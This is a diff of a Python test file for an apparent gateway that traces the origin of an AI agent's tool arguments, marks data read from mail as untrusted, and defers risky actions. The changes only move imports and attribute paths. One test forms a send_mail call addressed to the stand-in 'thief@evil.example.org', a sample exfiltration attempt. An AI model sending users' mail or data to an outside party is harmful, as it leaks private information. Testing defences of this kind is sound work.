@@ -9,7 +9,7 @@ import pytest
 
 from remit.core.decisions.decision import Outcome
 from remit.core.evidence.event import EventKind
-from remit.gateway.mcp import McpEndpoint
+from remit.gateway.endpoints import mcp_endpoint
 from tests.flow_world import FlowWorld, flow_world
 from tests.gateway_world import ENVELOPE, MODERN
 from tests.house_world import exchange
@@ -37,7 +37,7 @@ async def test_a_decision_says_what_justified_each_argument(world: FlowWorld) ->
     (origin,) = by_name[2]["to"]["origins"]
     assert origin[0] == read["number"] == 1
     assert origin[2:] == ["office/read_mail", "[].body", "untrusted"]
-    entries = await world.house.evidence.pages(limit=1000)
+    entries = await world.house.evidence.log.pages(limit=1000)
     (first,) = [
         one
         for one in entries
@@ -90,7 +90,7 @@ async def test_the_agent_is_told_the_chain_on_the_wire(world: FlowWorld) -> None
     await world.open("Summarise my mail")
     await world.run("read_mail", folder="inbox")
     token = await task_token(world.house, world.task.id)
-    endpoint = McpEndpoint(world.house)
+    endpoint = mcp_endpoint(world.house)
     params = {
         "name": "send_mail",
         "arguments": {"to": "thief@evil.example.org", "body": "x"},
@@ -141,8 +141,8 @@ async def test_a_child_trusts_nothing_where_its_parent_is_not_at_hand(world: Flo
     await world.open("Mail Bob Stone or ann@example.com")
     parent = world.task.id
     await world.hand_down()
-    world.house.live.drop(world.task.id)
-    world.house.live.drop(parent)
+    world.house.tasks.live.drop(world.task.id)
+    world.house.tasks.live.drop(parent)
     world.office.answers["find_contact"] = [{"name": "Bob Stone", "email": "bob@example.com"}]
     await world.run("find_contact", name="Bob Stone")
     assert await world.outcome("send_mail", to="bob@example.com", body="x") is Outcome.DEFER
